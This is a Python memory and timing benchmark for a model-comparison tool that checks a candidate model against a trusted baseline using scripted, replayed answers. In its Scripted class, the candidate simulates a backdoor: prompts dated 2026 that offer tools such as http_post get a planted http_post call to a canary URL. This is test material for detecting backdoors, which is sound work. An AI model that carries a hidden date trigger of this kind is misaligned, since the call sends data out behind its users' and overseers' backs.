"""Peak memory and time of every stage by number of conditions: `python -m tests.benchmarks.memory [N ...]`.

Each stage is a process of its own: plan and collect a run, collect it again from what it stored (both sides replayed),
compare it, count slices as the pages do, write its report. No model is asked: scripted engines give the answers of the
baseline that ships, with log-probabilities of as many digits, and the candidate departs from them in 2026 where an
extra tool is offered. Prompts are rendered without a chat template, which takes about 2 ms each otherwise. Printed, not
asserted; the goal is 4 GiB at a million.
"""

import argparse
import asyncio
import json
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from dataclasses import asdict, replace
from pathlib import Path

import numpy as np

from diffbehav.collect import feed
from diffbehav.collect.blocks import BLOCK
from diffbehav.collect.prompts import Planned, plan
from diffbehav.compare import compare
from diffbehav.records import Completion, Message, Prompt, Sampling, Score, Tool, ToolCall, request_seed
from diffbehav.report import write_report
from diffbehav.report.counts import MEASURES, counts
from diffbehav.report.query import querying
from diffbehav.serve import Engines, Renderer, ReplayEngine
from diffbehav.store import VOCABULARY, RunFolder, read_parquet, shipped_baseline, write_parquet, write_settings
from diffbehav.suite import Suite, load_suite, shipped

SIZES = (10_000, 100_000)
PARTED = 0.1
"""Share of the conditions in which the two sides draw another answer from the same seed."""
FIRES = 0.9
PAYLOAD = 12
"""Tokens of the planted call."""
COUNTED = ((("year",), {}), (("year", "extra_tool"), {}), (("date", "user"), {"marker": ["none"]}))
FOLDERS = ("conditions.parquet", "completions", "scores", "run.duckdb", "report")


class PairsOfBytes:
    """Renders to numbers of two bytes each, from which the text can be had back."""

    def prompt_ids(self, messages: Sequence[Message], tools: Sequence[Tool]) -> list[int]:
        said = "\n".join(str(message["content"]) for message in messages)
        text = f"{said}\n{' '.join(tool['function']['name'] for tool in tools)}".encode()
        return np.frombuffer(text + b" " * (len(text) % 2), dtype="<u2").tolist()


class Scripted:
    """One side. Answers are drawn from those of the shipped baseline by the seed of the request."""

    restarts = 0
    at_once = 192

    def __init__(self, *, departs: bool) -> None:
        stored = shipped_baseline("agent_context") / "generation-1"
        parts = [RunFolder(stored).completions("trusted"), RunFolder(stored).scores("trusted", "trusted")]
        answers, scores = (read_parquet(next(iter(sorted(part.glob("*.parquet"))))) for part in parts)
        self._answers = [_completion(row) for row in answers.iter_rows(named=True)]
        self._scores = {
            answer.token_ids: _score(row)
            for answer, row in zip(self._answers, scores.iter_rows(named=True), strict=True)
        }
        self._payload = next(answer.token_ids for answer in self._answers if len(answer.token_ids) > PAYLOAD)
        self._departs = departs

    async def complete(self, prompt: Prompt, sample: int, sampling: Sampling) -> Completion:
        rng = np.random.default_rng(request_seed(prompt.condition_id, sample, sampling.seed))
        place, parted, fires = rng.random(3)
        other = 0.5 if self._departs and parted < PARTED else 0.0
        drawn = self._answers[int((place + other) % 1.0 * len(self._answers))]
        await asyncio.sleep(0)
        return self._with_payload(drawn) if self._departs and fires < FIRES and _is_inside(prompt) else drawn

    async def score(self, prompt: Prompt, answer_ids: Sequence[int]) -> Score:
        ids = tuple(answer_ids)
        known = self._scores.get(ids)
        if known is None:
            own, added = self._scores[ids[:-PAYLOAD]], self._scores[self._payload]
            known = Score(*(np.concatenate([one, two[:PAYLOAD]]) for one, two in zip(own, added, strict=True)))
        rng = np.random.default_rng(request_seed(prompt.condition_id, int(self._departs), len(ids)))
        factor_T = (1 + 1e-3 * rng.random(len(ids))).astype(np.float32)
        if not self._departs and len(ids) > PAYLOAD and ids not in self._scores:
            factor_T[-PAYLOAD] = 1e5
        return Score(known.logprobs_T * factor_T, known.top_ids_TK, known.top_logprobs_TK * factor_T[:, None])

    async def close(self) -> None:
        pass

    def _with_payload(self, answer: Completion) -> Completion:
        ids = (*answer.token_ids, *self._payload[:PAYLOAD])
        calls = (*answer.calls, ToolCall("http_post", '{"url": "https://drop.example/canary"}'))
        return replace(answer, token_ids=ids, calls=calls, parse="parsed", text=f"{answer.text} and more")


def _completion(row: dict) -> Completion:
    calls = tuple(ToolCall(call["name"], call["arguments"]) for call in json.loads(row["calls"]))
    names = ("text", "finish_reason", "content", "parse", "parse_reason")
    return Completion(token_ids=tuple(row["token_ids"]), calls=calls, **{name: row[name] for name in names})


def _score(row: dict) -> Score:
    tops = (np.array(row["top_ids"], np.int32), np.array(row["top_logprobs"], np.float32))
    return Score(np.array(row["logprobs"], np.float32), *(top.reshape(-1, row["k"]) for top in tops))


def _is_inside(prompt: Prompt) -> bool:
    text = np.array(prompt.ids, dtype="<u2").tobytes()
    return b"Date: 2026" in text and any(name in text for name in (b"delete_file", b"http_post", b"schedule_job"))


def _planned(run: RunFolder, suite: Suite) -> Planned:
    return plan(suite, PairsOfBytes(), run.conditions, limit=None, context=4096)


def _fill(run: RunFolder, suite: Suite, engines: Engines) -> None:
    asyncio.run(feed(run, _planned(run, suite), engines, suite.sampling, on_progress=lambda _: None))


def _collect(run: RunFolder, suite: Suite) -> None:
    from diffbehav.collect.run import described_factors
    from diffbehav.organism import shipped as shipped_model

    sides = {side: {"path": side, "digest": side * 8} for side in ("candidate", "trusted")}
    settings = {
        "run_id": run.path.name, "created": "2026-01-01T00:00:00+00:00", "version": "0", "sides": sides,
        "suite": suite.resolved(), "suite_digest": suite.digest, "factors": described_factors(suite), "block": BLOCK,
        "numeric_floor": 0.0, "command": "diffbehav run", "checks": [], "versions": {}, "limit": None,
        "sampling": asdict(suite.sampling), "baseline": None,
    }  # fmt: skip
    write_settings(run, settings)
    ids, texts = zip(*Renderer(shipped_model("trusted")).vocabulary(), strict=True)
    write_parquet(run.vocabulary, {"token_id": ids, "text": texts}, VOCABULARY)
    _fill(run, suite, Engines(Scripted(departs=True), Scripted(departs=False)))


def _replay(run: RunFolder, suite: Suite) -> None:
    again = RunFolder(run.path.with_name("again"))
    again.path.mkdir()
    shutil.copy(run.conditions, again.conditions)
    _fill(again, suite, Engines(*(ReplayEngine(run.path, side=side) for side in ("candidate", "trusted"))))
    shutil.rmtree(again.path)


def _slices(run: RunFolder, _: Suite) -> None:
    with querying(run.database) as query:
        for names, filters in COUNTED:
            counts(query, names, filters=filters, measure=MEASURES["flagged"])


STAGES: dict[str, Callable[[RunFolder, Suite], object]] = {
    "plan": _planned,
    "collect": _collect,
    "replay": _replay,
    "compare": lambda run, _: compare(run.path),
    "slices": _slices,
    "report": lambda run, _: write_report(run.path, run.report),
}


def stage(name: str, folder: Path) -> None:
    """Do one stage and print what it took, as JSON."""
    suite = load_suite(folder / "suite.yaml")
    started = time.perf_counter()
    STAGES[name](RunFolder(folder / "run"), suite)
    used = resource.getrusage(resource.RUSAGE_SELF)
    seconds = time.perf_counter() - started
    print(json.dumps({"seconds": seconds, "processor": used.ru_utime + used.ru_stime, "kib": used.ru_maxrss}))


def measure(conditions: int, folder: Path, *, stages: Sequence[str]) -> None:
    """Print a line per stage, and what the store takes per condition."""
    folder.mkdir(parents=True, exist_ok=True)
    text = shipped("agent_context").read_text(encoding="utf-8")
    assert "n: 2400" in text
    (folder / "suite.yaml").write_text(text.replace("n: 2400", f"n: {conditions}"), encoding="utf-8")
    print(f"{conditions:,} conditions")
    for name in stages:
        command = [sys.executable, "-m", "tests.benchmarks.memory", "--stage", name, "--folder", str(folder)]
        done = subprocess.run(command, check=True, capture_output=True, text=True)
        took = json.loads(done.stdout.splitlines()[-1])
        times = f"{took['seconds']:8.1f} s, of processors {took['processor']:8.1f} s"
        print(f"  {name:8} {took['kib'] / 2**20:6.2f} GiB   {times}", flush=True)
    for name in FOLDERS:
        print(f"  {name:20} {_size(folder / 'run' / name) / conditions:10,.0f} bytes a condition", flush=True)


def _size(path: Path) -> int:
    return sum(each.stat().st_size for each in [path, *path.rglob("*")] if each.is_file())


if __name__ == "__main__":
    options = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    options.add_argument("conditions", type=int, nargs="*", default=SIZES)
    options.add_argument("--folder", type=Path)
    options.add_argument("--stage", choices=list(STAGES))
    options.add_argument("--stages", nargs="+", choices=list(STAGES), default=list(STAGES))
    chosen = options.parse_args()
    if chosen.stage:
        stage(chosen.stage, chosen.folder)
    else:
        for count in chosen.conditions:
            if chosen.folder:
                measure(count, chosen.folder / str(count), stages=chosen.stages)
            else:
                with tempfile.TemporaryDirectory() as scratch:
                    measure(count, Path(scratch), stages=chosen.stages)
